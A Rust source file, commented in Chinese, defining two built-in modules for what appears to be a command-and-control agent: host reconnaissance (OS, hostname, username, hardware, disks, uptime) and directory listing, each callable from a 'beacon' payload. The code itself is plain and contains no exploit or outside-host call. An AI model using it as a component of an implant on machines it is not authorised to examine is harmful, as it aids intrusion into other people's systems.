// 内建模块
//
// 编译进二进制、启动时注册的两个基础能力：
// - system_info：主机概况（OS、CPU、内存、磁盘、运行时长）
// - list_directory：目录清单（JSON）
//
// 平台差异（属主、权限位）就地降级，不影响核心契约。

use serde_json::json;
use sysinfo::{CpuExt, DiskExt, System, SystemExt};

use crate::error::{AgentError, Result};
use crate::modules::BuiltinCommand;

/// 字节数转成人类可读的 GB 字符串
fn bytes_to_gb(bytes: u64) -> String {
    format!("{:.2} GB", bytes as f64 / (1u64 << 30) as f64)
}

/// system_info 模块
pub struct SystemInfoCommand;

impl SystemInfoCommand {
    fn gather() -> Result<String> {
        let mut sys = System::new_all();
        sys.refresh_all();

        let storage: Vec<serde_json::Value> = sys
            .disks()
            .iter()
            .map(|disk| {
                let total = disk.total_space();
                let free = disk.available_space();
                json!({
                    "drive_name": disk.mount_point().to_string_lossy(),
                    "total_space": bytes_to_gb(total),
                    "free_space": bytes_to_gb(free),
                    "used_space": bytes_to_gb(total.saturating_sub(free)),
                })
            })
            .collect();

        let cpu = sys
            .cpus()
            .first()
            .map(|c| c.brand().trim().to_string())
            .unwrap_or_else(|| "N/A".to_string());

        let uptime_secs = sys.uptime();
        let uptime = format!(
            "{}d {}h {}m",
            uptime_secs / 86_400,
            (uptime_secs % 86_400) / 3_600,
            (uptime_secs % 3_600) / 60
        );

        let info = json!({
            "os_name": sys.name().unwrap_or_else(|| "N/A".to_string()),
            "os_version": sys.os_version().unwrap_or_else(|| "N/A".to_string()),
            "kernel_version": sys.kernel_version().unwrap_or_else(|| "N/A".to_string()),
            "architecture": std::env::consts::ARCH,
            "hostname": sys.host_name().unwrap_or_else(|| "N/A".to_string()),
            "username": whoami::username(),
            "cpu": cpu,
            "cpu_cores": sys.cpus().len(),
            "memory": format!(
                "{} used / {} total",
                bytes_to_gb(sys.used_memory()),
                bytes_to_gb(sys.total_memory())
            ),
            "uptime": uptime,
            "storage": storage,
        });
        serde_json::to_string(&info).map_err(AgentError::from)
    }
}

impl BuiltinCommand for SystemInfoCommand {
    fn execute(&self, _args: &[String]) -> Result<String> {
        Self::gather()
    }

    fn execute_from_beacon(&self, _args: &[String], _data: &str) -> Result<String> {
        Self::gather()
    }
}

/// list_directory 模块
pub struct ListDirectoryCommand;

impl ListDirectoryCommand {
    fn list(path: &str) -> Result<String> {
        let path = path.trim().trim_matches('"');
        if path.is_empty() {
            return Err(AgentError::Execution("no directory path provided".to_string()));
        }

        let metadata = std::fs::metadata(path).map_err(|e| {
            if e.kind() == std::io::ErrorKind::NotFound {
                AgentError::Execution(format!("directory not found at '{}'", path))
            } else {
                AgentError::Execution(format!("could not stat '{}': {}", path, e))
            }
        })?;
        if !metadata.is_dir() {
            return Err(AgentError::Execution(format!(
                "path '{}' is not a directory",
                path
            )));
        }

        let mut files = Vec::new();
        let entries = std::fs::read_dir(path)
            .map_err(|e| AgentError::Execution(format!("could not read directory '{}': {}", path, e)))?;
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().to_string();
            match entry.metadata() {
                Ok(meta) => {
                    let modified = meta
                        .modified()
                        .ok()
                        .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
                        .map(|d| d.as_secs())
                        .unwrap_or(0);
                    files.push(json!({
                        "name": name,
                        "size": meta.len(),
                        "is_dir": meta.is_dir(),
                        "permissions": permissions_string(&meta),
                        "modified_time": modified,
                    }));
                }
                Err(_) => {
                    files.push(json!({ "name": name }));
                }
            }
        }
        files.sort_by(|a, b| {
            a.get("name")
                .and_then(|v| v.as_str())
                .cmp(&b.get("name").and_then(|v| v.as_str()))
        });

        let listing = json!({
            "name": path,
            "permissions": permissions_string(&metadata),
            "files": files,
        });
        serde_json::to_string(&listing).map_err(AgentError::from)
    }
}

#[cfg(unix)]
fn permissions_string(metadata: &std::fs::Metadata) -> String {
    use std::os::unix::fs::PermissionsExt;
    format!("{:o}", metadata.permissions().mode() & 0o7777)
}

#[cfg(not(unix))]
fn permissions_string(metadata: &std::fs::Metadata) -> String {
    if metadata.permissions().readonly() {
        "read-only".to_string()
    } else {
        "read-write".to_string()
    }
}

impl BuiltinCommand for ListDirectoryCommand {
    fn execute(&self, args: &[String]) -> Result<String> {
        let path = args
            .first()
            .map(String::as_str)
            .ok_or_else(|| AgentError::Execution("no directory path provided".to_string()))?;
        Self::list(path)
    }

    fn execute_from_beacon(&self, args: &[String], data: &str) -> Result<String> {
        // beacon 载荷优先；空载荷时回落到 args
        let trimmed = data.trim().trim_matches('"');
        if !trimmed.is_empty() && trimmed != "null" {
            Self::list(trimmed)
        } else {
            self.execute(args)
        }
    }
}
